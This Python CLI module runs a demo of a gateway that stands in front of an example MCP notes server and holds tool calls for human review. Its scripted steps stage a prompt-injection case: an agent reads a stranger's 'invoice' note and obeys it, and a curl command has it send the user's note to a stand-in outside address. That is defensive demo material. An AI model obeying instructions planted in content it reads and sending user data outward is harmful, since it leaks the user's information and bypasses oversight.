"""`callgate demo`: the gateway in front of an example server, with something to try."""

from __future__ import annotations

import asyncio
import json
import os
import shlex
import shutil
import signal
import sys
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Annotated, Final
from urllib.parse import urlsplit

import typer

from callgate.cli.common import console
from callgate.cli.demo_review import LEFT, review

USUAL: Final = "127.0.0.1:8420"
ANY: Final = "127.0.0.1:0"
# Where the stranger's note wants a note of the user's to be sent.
STRANGER: Final = "accounts@northwind-billing.example"
CONFIG: Final = """\
# Written by `callgate demo`. Change it while the demo runs: the gateway follows within seconds.

[store]
url = "sqlite:///callgate.db"

[logging]
level = "warning"

[limits]
connections = 200

[servers.notes]
command = {command}

# This server is ours: it is believed which of its notes a stranger wrote.
[servers.notes.trust]
trusted = true
"""
CALL: Final = """\
curl -sS {url} -H 'Content-Type: application/json' \\
  -H 'MCP-Protocol-Version: 2026-07-28' -H 'Mcp-Method: tools/call' -H 'Mcp-Name: {tool}' \\
  -d '{{"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {{
        "name": "{tool}", "arguments": {arguments},
        "_meta": {{"io.modelcontextprotocol/protocolVersion": "2026-07-28",
                  "io.modelcontextprotocol/clientCapabilities": {{}}}}}}}}'"""


def register(app: typer.Typer) -> None:
    app.command("demo")(demo)


def demo(
    folder: Annotated[
        Path | None,
        typer.Option(
            "--dir", metavar="PATH", help="Keep the demo's state there; by default it is temporary and goes at the end."
        ),
    ] = None,
) -> None:
    """Run the gateway in front of an example server, and print what to try. Ctrl-C stops it."""
    ignored = _leave_user_settings()
    with _ending_calmly() as asked, _state(folder) as state:
        config, command = state / "callgate.toml", _command(state)
        _configure(config, command)
        asked.check()
        review(config, command)
        asked.check()
        _run(config, ignored, asked, kept=folder is not None)


def _run(config: Path, ignored: list[str], asked: _Asked, *, kept: bool) -> None:
    from callgate.errors import ConfigError

    def listening(address: str) -> None:
        if asked.to_stop:
            # From here on the gateway hears it itself.
            signal.raise_signal(signal.SIGTERM)
            return
        _introduce(f"{address}/servers/notes/mcp", config, ignored, kept=kept)

    try:
        _serve(config, USUAL, listening)
    except ConfigError:
        # Something has the usual port; if it was anything else, this fails in the same way.
        _serve(config, ANY, listening)
    console().print("Stopped.")


def _serve(config: Path, listen: str, listening: Callable[[str], None]) -> None:
    from callgate.cli.showing import make_console
    from callgate.config import load
    from callgate.gateway.loop import new_event_loop
    from callgate.gateway.serve import serve
    from callgate.telemetry.logs import configure

    os.environ["CALLGATE_LISTEN"] = listen
    settings = load(config)
    configure(settings.logging.level, "pretty")
    with asyncio.Runner(loop_factory=new_event_loop) as runner:
        runner.run(serve(settings, config, listening, make_console))


# -- what it needs ---------------------------------------------------------------------------------------------


def _leave_user_settings() -> list[str]:
    """The demo has a store of its own: what the environment says for the user's real gateway does not count here."""
    found = [name for name in os.environ if name.startswith("CALLGATE_")]
    for name in found:
        del os.environ[name]
    return sorted(found)


class _Asked:
    """Whether somebody asked it to stop while it starts.

    That is looked at between steps: an exception out of nowhere may be lost in somebody's destructor.
    """

    def __init__(self) -> None:
        self.to_stop = False

    def hear(self, _number: int, _frame: object) -> None:
        if self.to_stop:
            raise KeyboardInterrupt  # asked again: whatever hangs is not waited for
        self.to_stop = True

    def check(self) -> None:
        if self.to_stop:
            raise KeyboardInterrupt


@contextmanager
def _ending_calmly() -> Iterator[_Asked]:
    """Being asked to stop is how a demo ends: status 0, and the folder is cleared away, at whatever moment it comes."""
    asked = _Asked()
    before = {number: signal.signal(number, asked.hear) for number in (signal.SIGINT, signal.SIGTERM)}
    try:
        yield asked
    except KeyboardInterrupt:
        pass
    finally:
        for number, handler in before.items():
            signal.signal(number, handler)


@contextmanager
def _state(folder: Path | None) -> Iterator[Path]:
    if folder is not None:
        from callgate.errors import ConfigError

        try:
            folder.mkdir(mode=0o700, parents=True, exist_ok=True)
        except OSError as error:
            raise ConfigError(
                f"{folder} cannot be made: {error.strerror}", advice="Name another folder with --dir."
            ) from None
        yield folder.absolute()
        return
    with tempfile.TemporaryDirectory(prefix="callgate-demo-", ignore_cleanup_errors=True) as made:
        yield Path(made)


def _command(state: Path) -> list[str]:
    return [sys.executable, "-m", "callgate.demo", str(state / "notes")]


def _configure(path: Path, command: list[str]) -> None:
    if path.exists():
        return
    # JSON strings are TOML strings; `$${` is how a configuration spells a plain `${`.
    words = [word.replace("${", "$${") for word in command]
    path.write_text(CONFIG.format(command=json.dumps(words, ensure_ascii=False)), encoding="utf-8")


def _program() -> str:
    """How to call this Callgate from another terminal, whatever folder it is in."""
    own = Path(sys.argv[0]).absolute()
    if own.stem != "callgate":
        return shlex.join([sys.executable, "-m", "callgate"])
    found = shutil.which("callgate")
    return "callgate" if found is not None and Path(found).absolute() == own else shlex.quote(str(own))


# -- what it says ----------------------------------------------------------------------------------------------


def steps(url: str, program: str, config: Path) -> list[tuple[str, str]]:
    """What to try, and the command for it."""
    where = shlex.quote(str(config))

    def call(tool: str, **arguments: str) -> str:
        return CALL.format(url=url, tool=tool, arguments=json.dumps(arguments))

    # What the other command does not know by itself: this gateway may listen elsewhere than the file says.
    listen = "" if urlsplit(url).netloc == USUAL else f"CALLGATE_LISTEN={urlsplit(url).netloc} "
    enrol = f"{listen}{program} enroll me -c {where}"
    return [
        ("call a tool through the gate", call("read_note", name="welcome")),
        ("a passkey for you, so that calls can wait for you: open the link in a browser here", enrol),
        ("an agent reads a note that a stranger sent", call("read_note", name="invoice")),
        (
            f"it does as the note says: the call waits until you decide, at {console_at(url)}/",
            call("send_note", name="todo", to=STRANGER),
        ),
        (f"{LEFT}, which nobody reviewed yet: read it, then approve or block it", f"{program} review -c {where}"),
        ("what was decided, and how it ended", f"{program} audit list -c {where}"),
        ("the kill switch: turn it on, then make the same call again", f"{program} block-all on -c {where}"),
        ("let calls through again", f"{program} block-all off -c {where}"),
        ("proof that nobody changed the record", f"{program} audit verify -c {where}"),
    ]


def console_at(url: str) -> str:
    """Where people decide: a browser takes passkeys for a name, not for a number."""
    return f"http://localhost:{urlsplit(url).port}"


def _introduce(url: str, config: Path, ignored: list[str], *, kept: bool) -> None:
    from rich.markup import escape

    from callgate._version import __version__

    out = console()

    def say(line: str = "") -> None:
        # Never wrapped by us: a command that is broken into lines cannot be pasted.
        out.print(line, soft_wrap=True)

    program = _program()
    say(f"\n[bold]Callgate {__version__}[/] stands between an agent and an example MCP server.\n")
    say(f"  [bold]gateway[/]  {url}")
    say("  [bold]server[/]   notes: list_notes, read_note, write_note, send_note (starts with the first call)")
    say(f"  [bold]console[/]  {console_at(url)}/")
    say(f"  [bold]waiting[/]  {LEFT}: hidden from every agent until you have reviewed it")
    say(f"  [bold]state[/]    {escape(str(config.parent))} ({'kept' if kept else 'gone when this ends'})")
    say("\nTry in another terminal:\n")
    for about, command in steps(url, program, config):
        say(f"[dim]# {about}[/]\n[green]{escape(command)}[/]\n")
    say("Your own MCP client: give it the gateway's address, or, if it starts commands, this one:\n")
    say(f"[green]{escape(program)} wrap notes -c {escape(shlex.quote(str(config)))}[/]\n")
    if ignored:
        say(f"[yellow]Not used here, but the commands above would: unset {escape(' '.join(ignored))}[/]\n")
    say("Ctrl-C stops the demo.")
    sys.stdout.flush()
